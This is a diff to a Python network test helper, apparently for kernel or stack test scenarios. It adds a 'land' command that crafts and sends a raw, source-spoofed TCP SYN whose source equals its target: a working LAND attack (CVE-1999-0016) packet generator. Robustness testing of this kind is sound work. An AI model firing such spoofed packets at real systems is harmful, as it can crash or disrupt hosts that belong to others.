@@ -13,6 +13,9 @@
 #                                    datagram gets ICMP port unreachable
 #   kside.py pattern-file PATH N     write the first N bytes of the pattern to PATH
 #                                    (a scenario sends it with `send VAR file PATH`)
+#   kside.py land DST PORT           one LAND SYN: from DST:PORT to DST:PORT, the
+#                                    IPv4 header written here (IP_HDRINCL), so the
+#                                    kernel sends the spoofed source as it is
 #
 # Every socket has a timeout; exit 0 on success, 1 with a FAIL line otherwise.
 import hashlib
@@ -214,6 +217,25 @@ def do_pattern_file(path, n):
     print("ok pattern-file: %d bytes of the pattern in %s" % (n, path))
 
 
+def do_land(dst, port):
+    # The LAND attack (CVE-1999-0016): a SYN whose source address and port
+    # are the target's own. The kernel resolves DST by ARP and sends the
+    # header as written.
+    a = socket.inet_aton(dst)
+    seq = 0x4C414E44  # "LAND"
+    tcp = struct.pack("!HHIIBBHHH", port, port, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
+    pseudo = a + a + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0x1A2B, 0, 64,
+                     socket.IPPROTO_TCP, 0, a, a)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    s.sendto(ip + tcp, (dst, 0))
+    s.close()
+    print("ok land: one SYN from %s:%d to %s:%d sent" % (dst, port, dst, port), flush=True)
+
+
 def main(a):
     if len(a) >= 3 and a[0] == "ping":
         do_ping(a[1], int(a[2]))
@@ -225,6 +247,8 @@ def main(a):
         do_tcp_sink(int(a[1]), int(a[2]))
     elif len(a) >= 3 and a[0] == "closed":
         do_closed(a[1], int(a[2]))
+    elif len(a) >= 3 and a[0] == "land":
+        do_land(a[1], int(a[2]))
     elif len(a) >= 3 and a[0] == "pattern-file":
         do_pattern_file(a[1], int(a[2]))
     else:
